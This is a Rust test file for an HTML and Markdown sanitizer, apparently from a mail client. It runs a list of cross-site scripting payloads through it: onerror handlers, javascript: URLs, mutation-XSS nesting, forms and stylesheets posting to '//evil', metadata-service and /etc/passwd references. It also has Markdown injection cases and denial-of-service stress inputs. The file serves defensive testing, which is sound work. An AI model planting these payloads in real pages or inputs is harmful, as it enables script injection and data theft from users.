use std::time::{Duration, Instant};

use super::{
    BodyFormat, MAX_INPUT, balance, html_to_text, markdown_to_html, render, sanitize, sanitize_with, text_to_html,
};

/// security.md 1.4, with each shown body checked for anything that could run or call home.
const PAYLOADS: &[&str] = &[
    "<img src=x onerror=C()>",
    "<svg onload=C()>",
    "<svg><animate onbegin=C() attributeName=x dur=1s>",
    "<details open ontoggle=C()>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=C()&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=C()>\">",
    "<a href=\"jav&#x09;ascript:C()\">x</a>",
    "<a href=\"java\nscript:C()\">x</a>",
    "<a href=\" &#14; javascript:C()\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5DKCk8L3NjcmlwdD4=\">x</a>",
    "<a href=\"//evil/x\">x</a>",
    "<a href=\"/api/logout\">x</a>",
    "<iframe srcdoc=\"<script>C()</script>\"></iframe>",
    "<object data=//evil/x></object>",
    "<embed src=//evil/x>",
    "<base href=//evil>",
    "<meta http-equiv=refresh content=\"0;url=//evil\">",
    "<form action=//evil><input name=p type=password></form>",
    "<style>input[value^=a]{background:url(//evil/a)}</style>",
    "<div style=\"position:fixed;inset:0;z-index:9999\"><a href=//evil>x</a></div>",
    "<div id=currentUser name=config class=modal>x</div>",
    "{{constructor.constructor('C()')()}}",
    "+ADw-script+AD4-C()+ADw-/script+AD4-",
    "\u{1b}$B<script>C()</script>",
    "<img src=\"file:///etc/passwd\">",
    "<img src=\"http://169.254.169.254/\">",
    "<link rel=stylesheet href=//evil>",
    "<script>C()</script>",
    "<ScRiPt\n>C()</sCrIpT\n>",
    "<scr\0ipt>C()</scr\0ipt>",
    "<img src=\"x\" srcset=\"//evil/x 1x\">",
    "<img \"\"\"><script>C()</script>\">",
    "<a href='javascript&colon;C()'>x</a>",
    "<table background=//evil><td background=//evil>x",
    "<p><svg><p><style><a title=\"</style><img src onerror=C()>\">",
    "<select><template><img src=x onerror=C()></template></select>",
    "<xmp><img src=x onerror=C()></xmp>",
    "<textarea><img title=\"</textarea><img src=x onerror=C()>\">",
    "<!--><img src=x onerror=C()>-->",
    "<!--x--!><img src=x onerror=C()>-->",
    "<![CDATA[><img src=x onerror=C()>]]>",
    "<title><img src=x onerror=C()></title>",
    "<video poster=//evil><source onerror=C()></video>",
    "<button formaction=javascript:C()>x</button>",
    "<a href=x: onclick=C() target=_self>x</a>",
];

/// Every start tag of `html` with its attributes, seen by our own tokenizer.
fn inspect(html: &str) {
    for token in super::tokens::Tokens::new(html) {
        let super::tokens::Token::Open(name, source) = token else {
            continue;
        };
        assert!(
            !matches!(
                name.as_str(),
                "script"
                    | "style"
                    | "svg"
                    | "math"
                    | "iframe"
                    | "object"
                    | "embed"
                    | "form"
                    | "input"
                    | "button"
                    | "base"
                    | "meta"
                    | "link"
                    | "template"
                    | "noscript"
                    | "video"
                    | "source"
                    | "textarea"
                    | "select"
            ),
            "{name} in {html}"
        );
        for (attribute, value) in super::tokens::attributes(source) {
            match attribute.as_str() {
                "href" => assert!(value.starts_with("http") || value.starts_with("mailto:"), "{html}"),
                "rel" => assert_eq!(value, "noopener noreferrer nofollow"),
                "target" => assert_eq!(value, "_blank"),
                "data-src" => assert!(value.starts_with("http"), "{html}"),
                "src" => assert!(value.starts_with("/files/"), "{html}"),
                "alt" | "title" | "width" | "height" | "colspan" | "rowspan" | "align" | "dir" | "start" | "value" => {}
                other => panic!("attribute {other} in {html}"),
            }
        }
    }
}

#[test]
fn no_payload_survives_in_any_format() {
    for payload in PAYLOADS {
        for wrapped in [
            (*payload).to_owned(),
            format!("<table><tr>{payload}<td>after"),
            format!("<p>before {payload} <b>after</b>"),
            format!("<a href=\"https://x\">{payload}"),
        ] {
            inspect(&sanitize(&wrapped));
            for format in [BodyFormat::Html, BodyFormat::Markdown, BodyFormat::Text] {
                inspect(&render(&wrapped, format, &|id| Some(format!("/files/{id}"))));
            }
            inspect(&markdown_to_html(&wrapped));
            let text = html_to_text(&wrapped);
            inspect(&sanitize(&text_to_html(&text)));
        }
    }
}

#[test]
fn markdown_payloads_are_harmless() {
    for source in [
        "[x](javascript:C())",
        "![x](x\"onerror=\"C())",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:C()>",
        "[x]: javascript:C()\n\n[x]",
        "![x](http://169.254.169.254/)",
    ] {
        let html = markdown_to_html(source);
        inspect(&html);
        assert!(!html.contains("src=\"h") || html.contains("data-src"), "{html}");
    }
}

#[test]
fn markdown_formats_what_agents_write() {
    let html = markdown_to_html("**Hi** ~~x~~\nline\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nhttps://example.com\n");
    for wanted in ["<strong>Hi</strong>", "<del>x</del>", "<br>", "<td>1</td>", "href=\"https://example.com\""] {
        assert!(html.contains(wanted), "{wanted} missing in {html}");
    }
}

#[test]
fn images_need_permission() {
    let html = "<img src='cid:logo@x' alt=Logo width=20><img src='CID:none' alt=none><img src=https://t.example/p.gif?x=1&amp;y=2 width=1>";
    let shown = sanitize_with(html, &|id| (id == "logo@x").then(|| "/files/1".to_owned()));
    assert!(shown.contains("src=\"/files/1\""), "{shown}");
    assert!(shown.contains("<img alt=\"none\">"), "{shown}");
    assert!(shown.contains("data-src=\"https://t.example/p.gif?x=1&amp;y=2\""), "{shown}");
    assert!(!shown.contains(" src=\"https"), "{shown}");
}

#[test]
fn mail_structure_survives() {
    let shown = sanitize(
        "<html><head><title>x</title><style>p{}</style></head><body><p>Hello<p>World <a href='https://a.example/?a=1&b=2'>link</a><table><tr><td align=center colspan=2>1<td>2</table><ul><li>a<li>b</ul><blockquote>old</blockquote>caf&eacute; &amp; 1 &lt; 2",
    );
    for wanted in [
        "<p>Hello</p><p>World <a href=\"https://a.example/?a=1&amp;b=2\"",
        "<td align=\"center\" colspan=\"2\">1</td><td>2</td>",
        "<ul><li>a</li><li>b</li></ul>",
        "<blockquote>old</blockquote>café &amp; 1 &lt; 2",
    ] {
        assert!(shown.contains(wanted), "{wanted} missing in {shown}");
    }
}

#[test]
fn sanitizing_twice_changes_nothing() {
    for payload in PAYLOADS {
        let once = sanitize(payload);
        assert_eq!(once, sanitize(&once), "{payload}");
    }
}

#[test]
fn plain_text_keeps_lines_and_links() {
    let html = sanitize(&text_to_html("Dear <b>\nsee https://x.example/a?b=1&c=2. Bye\n\nJ \"Q\""));
    assert!(html.contains("Dear &lt;b&gt;<br>"), "{html}");
    assert!(html.contains("<a href=\"https://x.example/a?b=1&amp;c=2\""), "{html}");
    assert!(html.contains("</a>. Bye</p>"), "{html}");
    assert!(html.contains("<p>J \"Q\"</p>"), "{html}");
}

#[test]
fn html_becomes_readable_text() {
    let text = html_to_text(
        "<style>x{}</style><p>Gr&uuml;&szlig;e,<br>  see\n <a href='https://x.example/'>here</a></p><ul><li>one</li><li>two</li></ul><div>On Mon Bob wrote:</div><blockquote><p>old</p><p>older</p></blockquote><p>end</p>",
    );
    assert_eq!(
        text,
        "Grüße,\nsee here (https://x.example/)\n\n- one\n- two\n\nOn Mon Bob wrote:\n\n> old\n>\n> older\n\nend"
    );
    assert_eq!(html_to_text("<pre>a  b\n\n c</pre>x"), "a  b\n\n c\n\nx");
}

#[test]
fn known_elements_are_sorted_and_nesting_is_repaired() {
    let plain = |html: &str| balance::balance(html, &mut |_| balance::Image::Drop);
    for name in ["a", "abbr", "caption", "h6", "listing", "main", "tfoot", "var", "ul"] {
        assert!(!plain(&format!("<table><{name} href=x>")).is_empty(), "{name}");
    }
    assert_eq!(plain("<b><p>x</b>y"), "<b><p>x</p></b>y");
    assert_eq!(plain("<table>x<tr>y"), "<table><tbody><tr><td>x</td></tr><tr><td>y</td></tr></tbody></table>");
    assert_eq!(plain("<td>x</td></div></p>"), "x");
}

#[test]
fn hostile_markup_is_bounded() {
    // A quarter of the limit: what is quadratic still takes minutes here.
    let fill = |unit: &str| unit.repeat(MAX_INPUT / 4 / unit.len());
    let attributes = format!("<a {}>x</a>", fill("a1=2 "));
    let distinct: String =
        (0..60_000).map(|n| format!("<font a{n}=1><b>")).collect::<String>() + &fill("<p>x").replace('x', "y");
    let mut worst = Duration::ZERO;
    for (name, html) in [
        ("div", fill("<div>")),
        ("p", fill("<p>")),
        ("b", fill("<b>")),
        ("b p", fill("<b><p>")),
        ("table", fill("<table>")),
        ("table text", format!("<table>{}", fill("<b>x</b>"))),
        ("table cells", fill("<table><td>")),
        ("a", fill("<a href=//x>")),
        ("a web", fill("<a href=http://x>")),
        ("li", fill("<ul><li>")),
        ("lt", fill("<")),
        ("lt a", fill("<a ")),
        ("comment", fill("<!--")),
        ("close", fill("</p></b>")),
        ("quote", fill("<blockquote>")),
        ("amp", fill("&")),
        ("amp far", fill("& ") + "<b>x"),
        ("degree", fill("°")),
        ("entity", fill("&#x41")),
        ("svg", fill("<svg>")),
        ("style", fill("<style>")),
        ("select", fill("<select><option>")),
        ("attributes", attributes),
        ("fonts", distinct),
        (
            "word",
            fill(
                "<p class=MsoNormal style='mso-fareast-language:EN-US;margin:0cm'><span lang=EN-US style='font-size:11.0pt'>Text of a line&nbsp;<o:p></o:p></span></p>\r\n",
            ),
        ),
    ] {
        let started = Instant::now();
        let shown = sanitize(&html);
        let shown_in = started.elapsed();
        let started = Instant::now();
        let text = html_to_text(&html);
        let text_in = started.elapsed();
        println!("{name}: sanitize {shown_in:?} ({} bytes), text {text_in:?} ({} bytes)", shown.len(), text.len());
        worst = worst.max(shown_in).max(text_in);
        assert!(shown.len() <= 12 * 1024 * 1024 && text.len() <= MAX_INPUT, "{name}");
    }
    assert!(worst < Duration::from_secs(10), "{worst:?}");
}

#[test]
fn hostile_markdown_is_bounded() {
    const SIZE: usize = 250_000;
    let fill = |unit: &str| unit.repeat(SIZE / unit.len());
    let indented: String = (0..600).map(|n| format!("{}- x\n", "  ".repeat(n))).collect();
    for (name, source) in [
        (">", fill("> ")),
        ("[", fill("[")),
        ("[ lines", fill("[\n")),
        ("![ lines", fill("![\n")),
        ("* lines", fill("*a\n")),
        ("**a lines", fill("**a **\n")),
        ("_ mixed", fill("*a_ **b__ \n")),
        ("` lines", (1..700).map(|n| format!("{}\n", "`".repeat(n.min(300)))).collect()),
        ("link", fill("[a](<b\n")),
        ("lt", fill("<a\n")),
        ("list", fill("- ")),
        ("number list", fill("1. ")),
        ("indented", indented),
        ("table", format!("{}\n{}\n", "|a".repeat(150), "|-".repeat(150)) + &fill("|\n")),
        ("refs", fill("[a]: b\n")),
        ("ref use", format!("[a]: {}\n\n{}", "b".repeat(50_000), fill("[a]\n"))),
        ("www", fill("www.a@b.c\n")),
        ("entities", fill("&a;")),
    ] {
        let started = Instant::now();
        let html = markdown_to_html(&source);
        let took = started.elapsed();
        println!("{name}: {took:?} ({} bytes)", html.len());
        assert!(took < Duration::from_secs(10), "{name} {took:?}");
    }
    assert!(!markdown_to_html(&"x".repeat(MAX_INPUT * 2)).is_empty());
}

#[test]
fn cutting_respects_characters() {
    assert_eq!(super::cut("aé", 2), "a");
    let long = "é".repeat(MAX_INPUT);
    assert!(sanitize(&long).ends_with('é'));
}
